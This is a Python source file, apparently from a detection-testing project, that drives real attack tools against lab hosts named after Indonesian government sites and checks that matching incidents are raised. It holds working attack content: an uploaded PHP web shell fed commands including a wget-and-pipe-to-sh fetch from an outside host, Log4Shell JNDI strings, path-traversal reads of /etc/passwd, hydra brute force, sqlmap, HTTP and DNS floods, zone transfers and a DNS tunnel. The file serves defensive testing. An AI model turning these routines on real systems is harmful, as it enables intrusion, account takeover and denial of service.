# Copyright (C) the siaga authors
# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks with the tools that attackers use, and what must come of each.  All are bounded in number and in time."""

import os
import random
import subprocess
import time

from namespace import LOGIN, NAMES, PORTAL, RESOLVER, TUNNEL, WEB, speak_as
from servers import USERS, ZONES

CRAWLER = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
PORTAL_HOST, MAIN_HOST, LOGIN_HOST = "portal.kementerian.go.id", "www.kementerian.go.id", "mail.kementerian.go.id"


class Attack:
    """TITLE for people; SOURCE of its connections; RULES: one of these words is in the name of the incident's rule; VICTIM:
    its domain, or the end of it."""

    def __init__(self, title, source, rules, victim, function, by_source=True):
        self.title, self.source, self.rules, self.victim = title, source, rules, victim
        self.function, self.by_source = function, by_source

    def run(self, lab):
        speak_as(self.source)
        self.function(lab)

    def is_found_in(self, incident):
        rule, siaga = incident.get("rule", {}), incident.get("siaga", {})
        named = self.source in incident.get("related", {}).get("ip", []) or incident.get("source", {}).get("ip") == self.source
        victim = siaga.get("victim", {}).get("domain", "")
        return ((named or not self.by_source) and victim.endswith(self.victim) and
                any(word in rule.get("name", "").lower() for word in self.rules))


def tool(*command, seconds=60, **options):
    """A tool that ends by itself, or after SECONDS."""
    try:
        subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                       timeout=seconds, **options)
    except subprocess.TimeoutExpired:
        pass


def words(lab, name, lines):
    path = os.path.join(lab, name)
    with open(path, "w") as f:
        f.write("\n".join(lines) + "\n")
    return path


def curl(host, server, path, *more):
    tool("curl", "-s", "-m", "5", "-o", "/dev/null", "--path-as-is", "--resolve", "%s:80:%s" % (host, server), *more,
         "http://%s%s" % (host, path))


# ---------------------------------------------------------------------------------------------- logins

def hydra(service, users, passwords, *more):
    def attack(lab):
        tool("hydra", "-I", "-L", words(lab, "hydra-users", users), "-P", words(lab, "hydra-passwords", passwords), "-t", "4",
             "-w", "5", "-c", "0", *more, "%s://%s" % (service, LOGIN), seconds=90, cwd=lab)
    return attack


WRONG = ["sandi%d" % n for n in range(12)]


def ssh_success_at_last(lab):
    hydra("ssh", ["wayan"], WRONG[:9] + [USERS["wayan"]])(lab)


# ---------------------------------------------------------------------------------------------- web

def sqlmap(lab):
    tool("sqlmap", "-u", "http://%s/produk.php?id=1" % PORTAL, "--headers", "Host: " + PORTAL_HOST, "--batch",
         "--output-dir", os.path.join(lab, "sqlmap"), "--technique", "BEU", "--threads", "1", "--timeout", "5", seconds=60,
         env=dict(os.environ, HOME=lab))


def paths(lab):
    random.seed(7)
    known = ["admin", "backup", "config", "db", "dump.sql", "old", "phpmyadmin", "test", "tmp", "wp-admin", "wp-login.php",
             ".git/HEAD", ".env", "server-status", "cgi-bin", "vendor", "api", "private", "upload", "web.config"]
    return words(lab, "paths", known + ["%s%d" % (random.choice(known).strip("."), n) for n in range(180)])


def dirb(lab):
    tool("dirb", "http://%s/" % PORTAL, paths(lab), "-S", "-r", "-H", "Host: " + PORTAL_HOST)


def gobuster(lab):
    tool("gobuster", "dir", "-q", "-t", "4", "-u", "http://%s/" % WEB, "-H", "Host: " + MAIN_HOST, "-w", paths(lab))


def ffuf(lab):
    tool("ffuf", "-s", "-t", "4", "-u", "http://%s/FUZZ" % WEB, "-H", "Host: jdih.kementerian.go.id", "-w", paths(lab))


def traversal(lab):
    for depth in range(3, 9):
        for step in ("../", "..%2f", "%2e%2e/", "..%252f"):
            curl(PORTAL_HOST, PORTAL, "/halaman.php?f=" + step * depth + "etc/passwd", "-A", BROWSER)


def log4shell(lab):
    for where in ("/?x=%24%7Bjndi:ldap://203.0.113.26:1389/a%7D", "/cari?q=%24%7B%24%7Blower:j%7Dndi:rmi://203.0.113.26/b%7D"):
        curl(PORTAL_HOST, PORTAL, where, "-A", "${jndi:ldap://203.0.113.26:1389/ua}")


def web_shell(lab):
    shell = os.path.join(lab, "gambar.php")
    with open(shell, "w") as f:
        f.write("<?php system($_REQUEST['cmd']);")
    curl(PORTAL_HOST, PORTAL, "/unggah.php", "-A", BROWSER, "-F", "berkas=@" + shell)
    for command in ("id", "uname%20-a", "cat%20/etc/passwd", "wget%20http://203.0.113.27/x.sh%20-O-%7Csh", "ls%20-la"):
        curl(PORTAL_HOST, PORTAL, "/uploads/gambar.php?cmd=" + command, "-A", BROWSER)
    for _ in range(5):
        curl(PORTAL_HOST, PORTAL, "/uploads/gambar.php", "-A", BROWSER, "-d", "cmd=id")


def gambling(lab):
    pages = ["/slot-gacor/%s" % name for name in ("maxwin", "rtp-live", "situs-judi-online", "togel-hongkong", "slot88",
             "bandar-judi-bola", "sl0t-g4cor-hari-ini", "scatter-hitam", "depo-pulsa", "link-alternatif")]
    for page in pages:
        os.makedirs(os.path.join(lab, "www", "ppid.kementerian.go.id", page[1:]), exist_ok=True)
        with open(os.path.join(lab, "www", "ppid.kementerian.go.id", page[1:], "index.html"), "w") as f:
            f.write("<h1>gacor</h1>")
        curl("ppid.kementerian.go.id", WEB, page + "/", "-A", CRAWLER)
        curl("ppid.kementerian.go.id", WEB, page + "/", "-A", BROWSER, "-e", "https://www.google.com/search?q=slot+gacor")


def portal_logins(lab):
    for number in range(40):
        curl(PORTAL_HOST, PORTAL, "/masuk.php", "-A", BROWSER, "-d", "nama=pegawai%d&sandi=123456" % number)


def http_flood(lab):
    tool("ab", "-q", "-n", "8000", "-c", "8", "-B", "203.0.113.30", "-H", "Host: " + MAIN_HOST, "http://%s/berita/7.html" % WEB)


# ---------------------------------------------------------------------------------------------- DNS

def dnsperf(lab, name, questions, server, source, rate, seconds):
    tool("dnsperf", "-s", server, "-a", source, "-d", words(lab, name, questions), "-Q", str(rate), "-l", str(seconds),
         "-n", "1", "-c", "4", "-W", seconds=seconds + 20)


def random_subdomains(lab):
    random.seed(3)
    letters = "abcdefghijklmnopqrstuvwxyz0123456789"
    questions = ["%s.dinas.go.id A" % "".join(random.choices(letters, k=12)) for _ in range(4000)]
    dnsperf(lab, "water-torture", questions, NAMES, "203.0.113.40", 400, 10)


def amplification(lab):
    dnsperf(lab, "amplification", ["pemkot.go.id ANY", "pemkot.go.id DNSKEY"] * 1000, NAMES, "203.0.113.41", 300, 6)


def zone_transfers(lab):
    for zone in ZONES:
        tool("dig", "@" + NAMES, zone, "AXFR", "+time=2", "+tries=1")


def updates(lab):
    for zone in ZONES:
        script = words(lab, "update", ["server " + NAMES, "zone " + zone, "update add palsu.%s 60 A 203.0.113.43" % zone, "send"])
        tool("nsupdate", "-t", "3", "-r", "0", script)


def tunnel(lab):
    """iodine's two ends, and a file that leaves through them."""
    with open(os.path.join(lab, "log", "iodine"), "ab") as out:
        server = subprocess.Popen(["iodined", "-f", "-c", "-P", "rahasia", "-l", TUNNEL, "10.9.0.1/27", "t.lab.example"],
                                  stdin=subprocess.DEVNULL, stdout=out, stderr=out)
        time.sleep(2)  # iodined says nothing when it is up
        client = subprocess.Popen(["iodine", "-f", "-r", "-P", "rahasia", RESOLVER, "t.lab.example"],
                                  stdin=subprocess.DEVNULL, stdout=out, stderr=out)
    try:
        time.sleep(4)
        # Both ends are on this machine: only the name of the client's device leads into the tunnel.
        tool("ping", "-I", "dns1", "-c", "60", "-i", "0.2", "-s", "900", "10.9.0.9", seconds=25)
    finally:
        for process in (client, server):
            process.terminate()
            process.wait()


ATTACKS = {
    "ssh-brute-force": Attack("SSH brute force (hydra)", "203.0.113.11", {"brute force"}, LOGIN_HOST,
                              hydra("ssh", ["root"], WRONG)),
    "ssh-names": Attack("SSH names guessed (hydra)", "203.0.113.12", {"brute force", "guessed"}, LOGIN_HOST,
                        hydra("ssh", ["admin", "oracle", "git", "postgres", "test", "ubuntu", "deploy", "backup"], WRONG[:2])),
    "ssh-takeover": Attack("SSH login at last succeeds (hydra)", "203.0.113.13", {"login succeeded"}, LOGIN_HOST,
                           ssh_success_at_last),
    "ftp-brute-force": Attack("FTP brute force (hydra)", "203.0.113.14", {"brute force"}, LOGIN_HOST,
                              hydra("ftp", ["budi"], WRONG)),
    "imap-brute-force": Attack("IMAP brute force (hydra)", "203.0.113.15", {"brute force"}, LOGIN_HOST,
                               hydra("imap", ["budi"], WRONG)),
    "pop3-spraying": Attack("POP3 password spraying (hydra)", "203.0.113.16", {"spraying", "guessed"}, LOGIN_HOST,
                            hydra("pop3", ["user%d" % n for n in range(12)], WRONG[:1])),
    "sql-injection": Attack("SQL injection (sqlmap)", "203.0.113.20", {"sql injection"}, PORTAL_HOST, sqlmap),
    "paths-dirb": Attack("paths guessed (dirb)", "203.0.113.21", {"web scan"}, PORTAL_HOST, dirb),
    "paths-gobuster": Attack("paths guessed (gobuster)", "203.0.113.22", {"web scan"}, MAIN_HOST, gobuster),
    "paths-ffuf": Attack("paths guessed (ffuf)", "203.0.113.23", {"web scan"}, "jdih.kementerian.go.id", ffuf),
    "traversal": Attack("path traversal (curl)", "203.0.113.25", {"traversal"}, PORTAL_HOST, traversal),
    "log4shell": Attack("Log4Shell (curl)", "203.0.113.26", {"log4", "java", "jndi"}, PORTAL_HOST, log4shell),
    "web-shell": Attack("upload and web shell (curl, real PHP)", "203.0.113.27", {"web shell"}, PORTAL_HOST, web_shell),
    "gambling": Attack("gambling pages planted (curl)", "203.0.113.28", {"gambling"}, "ppid.kementerian.go.id", gambling,
                       by_source=False),
    "portal-logins": Attack("portal logins stuffed (curl)", "203.0.113.29", {"web login", "brute force", "stuffing"}, PORTAL_HOST, portal_logins),
    "http-flood": Attack("HTTP flood (ab)", "203.0.113.30", {"flood"}, MAIN_HOST, http_flood),
    "water-torture": Attack("random subdomains (dnsperf)", "203.0.113.40", {"random-subdomain"}, "dinas.go.id", random_subdomains,
                            by_source=False),
    "amplification": Attack("amplification (dnsperf)", "203.0.113.41", {"amplification"}, "pemkot.go.id", amplification,
                            by_source=False),
    "zone-transfers": Attack("zone transfers (dig AXFR)", "203.0.113.42", {"zone transfers"}, ".go.id", zone_transfers),
    "updates": Attack("dynamic updates (nsupdate)", "203.0.113.43", {"updates"}, ".go.id", updates),
    "tunnel": Attack("DNS tunnel (iodine)", "203.0.113.44", {"tunnel"}, "", tunnel, by_source=False),
}
SHORT = ("ssh-brute-force", "imap-brute-force", "paths-ffuf", "traversal", "web-shell", "gambling", "water-torture",
         "zone-transfers")
